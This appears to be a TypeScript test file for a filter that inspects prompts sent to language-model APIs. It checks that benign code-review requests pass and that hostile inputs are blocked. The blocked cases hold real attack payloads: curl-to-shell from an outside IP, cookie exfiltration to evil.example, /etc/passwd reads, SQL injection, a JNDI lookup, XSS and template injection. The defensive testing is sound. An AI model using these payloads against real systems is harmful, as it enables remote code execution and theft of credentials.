import { describe, expect, test } from 'vitest';
import { policyOf } from '../../../../benchmarks/traffic/policies.ts';
import { inspect } from '../index.ts';
import { post } from '../testing/requests.ts';

const policy = policyOf('medium');
const decided = (body: unknown) => inspect(policy, post('application/json', JSON.stringify(body))).decision;
const carriers: readonly (readonly [api: string, carry: (text: string) => unknown])[] = [
  ['prompt', (text) => ({ model: 'llama3', prompt: text })],
  ['messages', (text) => ({ messages: [{ role: 'user', content: text }] })],
  ['parts of content', (text) => ({ messages: [{ role: 'user', content: [{ type: 'text', text }] }] })],
  ['contents', (text) => ({ contents: [{ parts: [{ text }] }] })],
];

/** Programs are pasted to a language model; what harms where it is stored or shown harms there too. */
describe.each(carriers)('what a language model is asked in %s', (_api, carry) => {
  test.each([
    'Refactor:\n\nimport subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n',
    "Review:\nconst { exec } = require('child_process');\nexec('ls', done);\n",
    'Why?\n```java\nProcess p = Runtime.getRuntime().exec("date");\n```',
    "Why is this bad?\n<?php\nsystem($_GET['c']);\n",
    "el.innerHTML = '<b>hi</b>';\nfetch('/api').then(show);\nalert('x');",
    "explain: find . -name '*.log' -exec rm {} \\; && df -h | awk '{print $5}'",
  ])('passes %s', (text) => {
    expect(decided(carry(text))).toBe('pass');
  });

  test.each([
    "__import__('os').system('id')",
    'x; cat /etc/passwd',
    'a picture of $(curl http://203.0.113.4/x|sh)',
    '<img src=x onerror=alert(1)>',
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "' UNION SELECT password FROM users-- ",
    `${'$'}{jndi:ldap://203.0.113.4/a}`,
    '../../../../etc/passwd',
    "{{''.__class__.__mro__[1].__subclasses__()}}",
  ])('blocks %s', (text) => {
    expect(decided(carry(text))).toBe('block');
  });

  test('blocks the same program elsewhere', () => {
    const text = 'import subprocess\nsubprocess.run(["id"])\n';
    expect(decided({ code: text })).toBe('block');
    expect(decided({ prompts: { messages: text } })).toBe('block');
  });
});
